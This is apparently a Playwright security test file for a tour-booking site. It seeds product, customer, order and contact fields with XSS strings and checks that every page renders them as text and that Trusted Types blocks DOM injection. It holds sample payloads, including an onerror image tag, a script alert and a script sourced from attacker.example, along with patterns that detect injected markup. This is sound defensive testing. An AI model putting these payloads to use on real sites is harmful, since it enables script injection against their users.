import type { SaveProduct } from '@arung/contracts/catalogue/requests'
import type { CheckoutView, PlacedOrder } from '@arung/contracts/checkouts/views'
import { otherProducts } from '@arung/standalone/demo/other-products'
import { productOf } from '@arung/standalone/demo/shapes'
import { expect, type BrowserContext, type Page } from '@playwright/test'
import type { z } from 'zod'
import { naughtyStrings, vectors } from '../../standalone/test/security/naughty-strings.ts'
import { comeSignedIn, demoAdmin, freshEmail, login } from '../src/accounts.ts'
import { call } from '../src/api.ts'
import { codeFor } from '../src/mailbox.ts'
import { holdPlaces, proveAddress } from '../src/other-buyers.ts'
import { startProduct, type Product } from '../src/product.ts'
import { openDay, productBySlug } from '../src/sessions.ts'
import { productUrl, test } from '../src/world.ts'

test.setTimeout(240_000)
// Both look at one product, in one worker.
test.describe.configure({ mode: 'default' })

const password = 'sungai-ayung-12'
const rafting = 'ayung-river-rafting'
const phone = '+6281234567890'
/** What the activity takes in one booking. */
const guestsMax = 60
/** As many whole strings as a field of that length takes. */
function filled(strings: readonly string[], lengthMax: number): string {
  let text = ''
  for (const one of strings) if (text.length + one.length + 1 < lengthMax) text += `${one} `
  return text.trim()
}
const short = (lengthMax: number) => vectors.filter(one => one.length <= lengthMax)
const nth = (lengthMax: number, at: number): string => short(lengthMax)[at] ?? '<script>alert(1)'

/** A product of its own: what is written here would spoil the screens of other tests. */
let product: Product
const before = { ...process.env }
test.beforeAll(async () => {
  test.setTimeout(120_000)
  product = await startProduct()
  process.env['PRODUCT_URL'] = product.url
  process.env['SANDBOX_URL'] = product.sandboxUrl
  process.env['GATEWAY_KEY'] = product.gatewayKey
})
test.afterAll(async () => {
  for (const name of ['PRODUCT_URL', 'SANDBOX_URL', 'GATEWAY_KEY'])
    if (before[name] !== undefined) process.env[name] = before[name]
  await product.stop()
})

async function naughtyCustomer() {
  const email = freshEmail('naughty')
  const { verificationSlug } = await call<{ verificationSlug: string }>('/users/register', {
    method: 'POST',
    body: {
      firstName: nth(80, 13),
      lastName: nth(80, 21),
      email,
      phone,
      city: nth(80, 17),
      password,
      passwordConfirmation: password,
    },
  })
  const code = await codeFor(productUrl(), email)
  await call(`/users/email-verification/${verificationSlug}`, { method: 'POST', body: { code } })
  return { email, password, firstName: nth(80, 13) }
}

/** An order whose guests, contact and note are all of them naughty. */
async function naughtyOrder(
  names: readonly string[],
  days: number,
  token?: string,
): Promise<string> {
  const date = await openDay(rafting, days, '09:00')
  const choice = { slug: rafting, date, time: '09:00', adults: names.length }
  const checkoutId = await holdPlaces(choice, token)
  const who = token === undefined ? {} : { token }
  const form = `/checkouts/${checkoutId}`
  const participants = names.map((name, at) => ({
    name: name.slice(0, 120),
    age: 30,
    birthDate: '1996-01-02',
    phone,
    pic: at === 0,
  }))
  await call(`${form}/participants`, { method: 'PUT', body: { participants }, ...who })
  const email = freshEmail('naughty')
  const contact = {
    firstName: nth(80, 14),
    lastName: nth(80, 22),
    email,
    phone,
    city: nth(80, 5),
    pickupPlace: nth(160, 27),
    note: filled(vectors, 1_000),
  }
  await call(`${form}/contact`, { method: 'PUT', body: { contact }, ...who })
  const checkout = await call<CheckoutView>(form)
  if (!checkout.contactVerified) await proveAddress(checkoutId, email)
  const body = { expectedTotal: checkout.grandTotal, currency: checkout.currency }
  const { slug } = await call<z.infer<typeof PlacedOrder>>(`${form}/order`, {
    method: 'POST',
    body,
    ...who,
  })
  return slug
}

/** The same activity with every text replaced by markup that would run. */
async function naughtyProduct(token: string): Promise<string> {
  const demo = otherProducts[0]
  if (demo === undefined) throw new Error('The demo has no other products')
  const now = await productBySlug(demo.slug)
  const lists = (lengthMax: number) => short(lengthMax).slice(0, 20)
  const line = (lengthMax: number) => filled(vectors.slice(13), lengthMax)
  const body: SaveProduct = {
    ...productOf(demo, new Map()),
    packageName: line(80),
    packageNameId: line(80),
    shortDescription: filled(vectors, 255),
    shortDescriptionId: filled(vectors, 255),
    fullDescription: vectors.map(one => `<p>${one}</p>`).join(''),
    fullDescriptionId: vectors.join(''),
    location: line(80),
    activityHours: line(60),
    bookingMethod: line(60),
    metaTitle: line(60),
    metaTitleId: line(60),
    metaDescription: line(160),
    metaDescriptionId: line(160),
    includes: lists(120),
    includesId: lists(120),
    notes: lists(160),
    notesId: lists(160),
    images: now.images.map(({ mediaId }) => ({ mediaId, alt: line(100), altId: line(100) })),
  }
  await call(`/admins/products/${now.id}`, { method: 'PUT', body, token })
  return demo.slug
}

/** Notes whatever runs in a page of this context, before anything of the page can. */
const watch = (context: BrowserContext) =>
  context.addInitScript({
    content: `(() => {
      const noticed = []
      window.noticed = noticed
      for (const name of ['alert', 'confirm', 'prompt'])
        Object.defineProperty(window, name, { value: () => noticed.push(name) })
      document.addEventListener('securitypolicyviolation', event =>
        noticed.push(event.violatedDirective + ' stopped ' + event.blockedURI + ' ' + event.sample))
    })()`,
  })

/** What has become of text in the page that is open now: nothing but text, or what it became. */
const becameMarkup = (page: Page): Promise<string[]> =>
  page.evaluate<string[]>(String.raw`(() => {
    const found = [...(window.noticed ?? [])]
    for (const element of document.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        if (/^on/i.test(name)) found.push('<' + element.localName + ' ' + name + '>')
        const leads = ['href', 'src', 'action', 'formaction', 'data', 'xlink:href'].includes(name)
        if (leads && /^\s*(javascript|vbscript|data:text)/i.test(value))
          found.push(name + '=' + value.slice(0, 40))
      }
      const type = element.getAttribute('type') ?? ''
      if (
        element.localName === 'script' &&
        !/json/.test(type) &&
        /alert\(/.test(element.textContent)
      )
        found.push('a new script')
      if (
        ['iframe', 'object', 'embed', 'base', 'marquee', 'math', 'isindex'].includes(
          element.localName,
        )
      )
        found.push('<' + element.localName + '>')
    }
    if (document.querySelector('meta[http-equiv=refresh]')) found.push('a refresh')
    return found
  })()`)

async function look(context: BrowserContext, addresses: readonly string[], shown: RegExp | null) {
  const page = await context.newPage()
  page.on('dialog', dialog => void dialog.dismiss())
  const problems: string[] = []
  let seen = 0
  for (const address of addresses) {
    await page.goto(`${productUrl()}${address}`, { waitUntil: 'load', timeout: 30_000 })
    await expect(page.locator('main, h1').first()).toBeVisible()
    await page.waitForLoadState('networkidle')
    for (const what of await becameMarkup(page)) problems.push(`${address}: ${what}`)
    if (shown?.test(await page.innerText('body'))) seen += 1
  }
  await page.close()
  expect(problems).toEqual([])
  return seen
}

test('xss.browser: naughty strings in every field stay text on every page, for visitors, customers and the desk @desktop', async ({
  browser,
}) => {
  const admin = await login('admins', demoAdmin)
  const slug = await naughtyProduct(admin.token)
  const customer = await naughtyCustomer()
  const { token } = await login('users', customer)
  const own = await naughtyOrder(naughtyStrings.slice(0, guestsMax), 10, token)
  const others: string[] = []
  for (let from = guestsMax; from < naughtyStrings.length; from += guestsMax) {
    const names = naughtyStrings.slice(from, from + guestsMax)
    others.push(await naughtyOrder(names, 10 + others.length * 3))
  }
  const [guest = own] = others
  const cancel = { reason: filled(vectors, 500) }
  await call(`/orders/${guest}/cancel`, { method: 'POST', body: cancel })
  const message = { firstName: nth(80, 15), lastName: nth(80, 23), email: freshEmail('x'), phone }
  const body = { ...message, message: filled(vectors, 2_000) }
  await call('/contacts', { method: 'POST', body })

  const visitor = await browser.newContext()
  await watch(visitor)
  const name = encodeURIComponent('<img src=x onerror=alert(1)>')
  const publicPages = ['/', '/activities', '/id/activities/others', `/activities/${slug}`]
  await look(
    visitor,
    [
      ...publicPages,
      `/id/activities/${slug}`,
      ...others.map(one => `/order/${one}`),
      `/${name}`,
      `/sign-in?next=${name}`,
    ],
    null,
  )
  const signedIn = await browser.newContext()
  await watch(signedIn)
  await comeSignedIn(signedIn, 'users', customer)
  const personal = [
    '/user',
    `/user/order/${own}`,
    `/order/${own}`,
    '/id/user/profile',
    '/user/security',
  ]
  expect(await look(signedIn, personal, /<script>alert\(1\)<\/script>/)).toBeGreaterThan(0)
  const desk = await browser.newContext()
  await watch(desk)
  await comeSignedIn(desk, 'admins', demoAdmin)
  const orders = [own, ...others].map(one => `/admin/orders/${one}`)
  const screens = ['/admin', '/admin/orders?view=all', ...orders]
  expect(await look(desk, screens, /onerror=alert\(1\)/)).toBeGreaterThan(0)
  for (const context of [visitor, signedIn, desk]) await context.close()
})

test('xss.browser: the look notices what runs and what the policy stops @desktop', async ({
  browser,
}) => {
  const context = await browser.newContext()
  await watch(context)
  const page = await context.newPage()
  const address = `${productUrl()}/about`
  await page.route(address, async route => {
    const response = await route.fetch()
    const body = (await response.text()).replace('</body>', `${nth(80, 13)}</body>`)
    await route.fulfill({ response, body })
  })
  await page.goto(address)
  await expect
    .poll(async () => (await becameMarkup(page)).join(' '))
    .toMatch(/stopped.*<img onerror>/)
  await context.close()
})

test('xss.browser: no script can put markup or code into the page, only what was sanitized gets there @desktop', async ({
  browser,
}) => {
  const context = await browser.newContext()
  await watch(context)
  const page = await context.newPage()
  await page.goto(productUrl())
  const sinks = [
    "document.body.innerHTML = '<b>x</b>'",
    "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
    "document.body.setAttribute('onclick', 'alert(1)')",
    "document.createElement('script').src = 'https://attacker.example/x.js'",
    "document.createElement('script').textContent = 'alert(1)'",
    "document.createElement('iframe').srcdoc = '<script>alert(1)</script>'",
    "document.write('<b>x</b>')",
    "trustedTypes.createPolicy('other', { createHTML: html => html })",
  ]
  for (const sink of sinks)
    await expect(page.evaluate(sink), sink).rejects.toThrow(/Trusted|Policy/)
  await expect
    .poll(async () => (await becameMarkup(page)).join(' '))
    .toMatch(/require-trusted-types-for stopped trusted-types-sink/)
  await page.goto(`${productUrl()}/activities/${rafting}`)
  await expect(page.locator('main')).toContainText(/\w/)
  expect(await becameMarkup(page)).toEqual([])
  await context.close()
})
